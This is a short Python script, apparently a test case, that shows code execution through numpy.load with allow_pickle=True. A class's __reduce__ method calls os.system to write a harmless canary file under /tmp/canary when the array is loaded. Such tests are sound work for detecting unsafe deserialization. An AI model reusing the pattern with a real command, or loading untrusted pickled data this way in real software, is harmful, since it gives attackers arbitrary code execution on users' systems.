# source: own
# effect: process
# needs: numpy

import io
import os
import numpy


class Payload:
    def __reduce__(self):
        return os.system, ("echo numpy/load_pickle > /tmp/canary/process",)


buffer = io.BytesIO()
numpy.save(buffer, numpy.array([Payload()], dtype=object), allow_pickle=True)
buffer.seek(0)
numpy.load(buffer, allow_pickle=True)
